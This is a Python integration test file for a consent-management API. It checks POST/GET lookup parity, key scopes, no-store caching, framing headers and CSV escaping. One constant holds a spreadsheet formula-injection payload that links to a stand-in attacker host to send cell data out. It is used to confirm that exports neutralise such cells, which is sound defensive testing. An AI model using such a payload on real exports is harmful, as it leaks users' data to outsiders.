"""Identifier lookups in a POST body give the GET answers with no address in the URL; a
decide-only key looking up by address learns no subject id; every /v1 answer is no-store; the
public pages forbid framing; no route redirects on a trailing slash; CSV cells that start like
a formula are written as text. All against the real API, broker and PostgreSQL."""

from __future__ import annotations

import csv
import io
import uuid
from collections.abc import AsyncIterator
from dataclasses import dataclass
from datetime import UTC, datetime
from typing import Any

import httpx
import pytest

from schemas.events import rfc3339
from services.config import Settings
from services.identity.api_keys import AUDIT, DECIDE
from tests.integration.access_support import bearer, made_key
from tests.integration.unsubscribe_support import issue, path_of

pytestmark = pytest.mark.integration

EMAIL = "ada.lookup@example.com"
PHONE = "+358 40 765 4321"
FORMULA = '=HYPERLINK("https://evil.example/?"&A2,"details")'


@dataclass(frozen=True, slots=True)
class World:
    api: httpx.AsyncClient
    settings: Settings
    subject: str
    token: str
    decide_key: str
    audit_key: str


@pytest.fixture(scope="module")
async def world(module_api: httpx.AsyncClient, module_settings: Settings) -> AsyncIterator[World]:
    api, subject = module_api, f"lookup-{uuid.uuid4().hex[:8]}"
    for kind, value in (("email", EMAIL), ("phone", PHONE)):
        linked = await api.post(
            f"/v1/subjects/{subject}/identifiers", json={"type": kind, "value": value}
        )
        assert linked.status_code == 201, linked.text
    granted = await api.post(
        f"/v1/subjects/{subject}/consents",
        json={
            "purpose": "newsletter",
            "channel": "email",
            "method": "form",
            "source": {"system": FORMULA, "collection_point": "-footer"},
        },
    )
    assert granted.status_code == 201, granted.text
    _, decide_key = await made_key(module_settings, api, DECIDE, name="newsletter-tool")
    _, audit_key = await made_key(module_settings, api, DECIDE, AUDIT, name="dpo")
    yield World(api, module_settings, subject, granted.json()["token"], decide_key, audit_key)


def _lookup(world: World, **extra: str) -> dict[str, str]:
    return {"email": EMAIL, "min_token": world.token, **extra}


def _without(body: dict[str, Any], *names: str) -> dict[str, Any]:
    return {k: v for k, v in body.items() if k not in names}


@pytest.mark.parametrize(
    ("view", "extra", "varies"),
    [
        ("consent", {}, ()),
        ("events", {"limit": "10"}, ()),
        ("verify", {}, ()),
        ("export", {}, ("generated_at",)),
    ],
)
async def test_a_subject_route_answers_the_same_to_its_post_twin(
    world: World, view: str, extra: dict[str, str], varies: tuple[str, ...]
) -> None:
    got = await world.api.get(f"/v1/subjects/by-identifier/{view}", params=_lookup(world, **extra))
    posted = await world.api.post(
        f"/v1/subjects/by-identifier/{view}", json=_lookup(world, **extra)
    )
    assert got.status_code == posted.status_code == 200, posted.text
    assert _without(posted.json(), *varies) == _without(got.json(), *varies)
    assert posted.json()["subject_id"] == world.subject


@pytest.mark.parametrize("fmt", ["json", "csv", "avro"])
async def test_the_history_download_answers_the_same_to_its_post_twin(
    world: World, fmt: str
) -> None:
    got = await world.api.get(
        "/v1/subjects/by-identifier/history", params=_lookup(world, format=fmt)
    )
    posted = await world.api.post(
        "/v1/subjects/by-identifier/history", json=_lookup(world, format=fmt)
    )
    assert got.status_code == posted.status_code == 200, posted.text
    assert got.headers["content-type"] == posted.headers["content-type"]
    if fmt != "avro":  # an Avro file's sync marker is random per file
        assert got.content == posted.content


async def test_the_decision_answers_the_same_to_post(world: World) -> None:
    for lookup in ({"email": EMAIL}, {"phone": PHONE}, {"subject_id": world.subject}):
        fields = {**lookup, "purpose": "newsletter", "channel": "email", "min_token": world.token}
        got = await world.api.get("/v1/decision", params=fields)
        posted = await world.api.post("/v1/decision", json=fields)
        assert got.status_code == posted.status_code == 200, posted.text
        assert posted.json() == got.json()
        assert posted.json()["allowed"] is True
        assert posted.json()["subject_id"] == world.subject


async def test_the_audit_page_answers_to_its_post_twin(world: World) -> None:
    got = await world.api.get("/audit/subjects/by-identifier", params=_lookup(world))
    posted = await world.api.post("/audit/subjects/by-identifier", json=_lookup(world))
    assert got.status_code == posted.status_code == 200, posted.text
    assert posted.headers["content-type"].startswith("text/html")
    assert world.subject in posted.text and EMAIL not in posted.text


async def test_a_post_lookup_takes_its_fields_from_the_body_only(world: World) -> None:
    in_url = await world.api.post(
        "/v1/decision", params={"email": EMAIL}, json={"purpose": "newsletter", "channel": "email"}
    )
    assert in_url.status_code == 400, in_url.text
    assert [e["field"] for e in in_url.json()["errors"]] == ["email"]
    typed = await world.api.post(
        "/v1/subjects/by-identifier/events", json={"email": EMAIL, "limit": 10}
    )
    assert typed.status_code == 422, typed.text
    assert [e["field"] for e in typed.json()["errors"]] == ["limit"]
    unknown = await world.api.post(
        "/v1/subjects/by-identifier/consent", json={"email": EMAIL, "emial": EMAIL}
    )
    assert unknown.status_code == 422 and unknown.json()["errors"][0]["field"] == "emial"
    not_json = await world.api.post(
        "/v1/decision",
        content=b"email=x",
        headers={"Content-Type": "application/x-www-form-urlencoded"},
    )
    assert not_json.status_code == 415


async def test_post_twins_need_the_scopes_of_their_get_routes(world: World) -> None:
    decide = bearer(world.decide_key)
    for path in ("/v1/subjects/by-identifier/export", "/audit/subjects/by-identifier"):
        assert (await world.api.get(path, params=_lookup(world), headers=decide)).status_code == 403
        assert (await world.api.post(path, json=_lookup(world), headers=decide)).status_code == 403
    live = {"email": EMAIL, "purpose": "newsletter", "channel": "email"}
    as_of = {**live, "at": rfc3339(datetime.now(UTC))}
    refused = await world.api.post("/v1/decision", json=as_of, headers=decide)
    assert refused.status_code == 403, refused.text
    assert 'scope="audit"' in refused.headers["www-authenticate"]
    # an audit-only key may ask what was known (`at`), by GET or POST, but not decide live
    _, audit_only = await made_key(world.settings, world.api, AUDIT, name="auditor")
    auditor = bearer(audit_only)
    assert (await world.api.get("/v1/decision", params=as_of, headers=auditor)).status_code == 200
    assert (await world.api.post("/v1/decision", json=as_of, headers=auditor)).status_code == 200
    assert (await world.api.get("/v1/decision", params=live, headers=auditor)).status_code == 403
    assert (await world.api.post("/v1/decision", json=live, headers=auditor)).status_code == 403


@pytest.mark.parametrize("method", ["GET", "POST"])
async def test_a_decide_only_key_learns_the_decision_but_not_the_subject_id(
    world: World, method: str
) -> None:
    async def ask(key: str, lookup: dict[str, str]) -> dict[str, Any]:
        fields = {**lookup, "purpose": "newsletter", "channel": "email", "min_token": world.token}
        if method == "GET":
            answer = await world.api.get("/v1/decision", params=fields, headers=bearer(key))
        else:
            answer = await world.api.post("/v1/decision", json=fields, headers=bearer(key))
        assert answer.status_code == 200, answer.text
        body: dict[str, Any] = answer.json()
        return body

    for lookup in ({"email": EMAIL}, {"phone": PHONE}):
        hidden = await ask(world.decide_key, lookup)
        assert "subject_id" not in hidden and "evidence" not in hidden
        assert world.subject not in str(hidden)
        assert hidden["allowed"] is True and hidden["reason"] == "consent_given"
        shown = await ask(world.audit_key, lookup)
        assert shown["subject_id"] == world.subject and shown["evidence"]
    nobody = await ask(world.decide_key, {"email": "nobody.here@example.com"})
    assert "subject_id" not in nobody and nobody["reason"] == "unknown_subject"
    # a caller that names the subject id already knows it
    by_id = await ask(world.decide_key, {"subject_id": world.subject})
    assert by_id["subject_id"] == world.subject and by_id["evidence"]


async def test_every_v1_answer_is_no_store(world: World) -> None:
    answers = [
        await world.api.get("/v1/purposes"),
        await world.api.get("/v1/decision"),  # 422
        await world.api.get("/v1/nowhere"),  # 404
        await world.api.get("/v1/purposes", headers={"Authorization": "Bearer nope"}),  # 401
        await world.api.post("/v1/decision", json=_lookup(world)),  # 422
        await world.api.get(
            f"/v1/subjects/{world.subject}/history", params={"format": "csv"}
        ),  # streamed
        await world.api.post(
            f"/v1/subjects/{world.subject}/withdrawals", json={"purpose": "research"}
        ),
        # answered by the request limits before anything else: no-store is outside them
        await world.api.get("/v1/decision", params={"subject_id": "a" * 9000}),  # 414
        await world.api.get("/v1/purposes", headers={"x-filler": "v" * 17_000}),  # 431
    ]
    assert [a.status_code for a in answers] == [200, 422, 404, 401, 422, 200, 201, 414, 431]
    for answer in answers:
        assert answer.headers.get_list("cache-control") == ["no-store"], answer.request.url


async def test_pages_forbid_framing_and_no_route_redirects_on_a_trailing_slash(
    world: World,
) -> None:
    links = await issue(world.api, subject_id=world.subject, purpose="newsletter", channel="email")
    page = path_of(links["url"])
    shown = await world.api.get(page)
    assert shown.status_code == 200
    assert shown.headers["x-frame-options"] == "DENY"
    missing = await world.api.get("/u/not-a-token")
    assert missing.status_code == 404 and missing.headers["x-frame-options"] == "DENY"
    for path in (page + "/", "/v1/purposes/", f"/v1/subjects/{world.subject}/consent/"):
        answer = await world.api.get(path, follow_redirects=False)
        assert answer.status_code == 404, path
        assert "location" not in answer.headers


async def test_csv_cells_that_start_like_a_formula_are_text(world: World) -> None:
    download = await world.api.get(
        f"/v1/subjects/{world.subject}/history", params={"format": "csv", "min_token": world.token}
    )
    assert download.status_code == 200
    rows = list(csv.DictReader(io.StringIO(download.text)))
    grant = next(r for r in rows if r["type"] == "ConsentGranted")
    assert grant["source_system"] == "'" + FORMULA
    assert grant["source_collection_point"] == "'-footer"
    assert all(not cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())
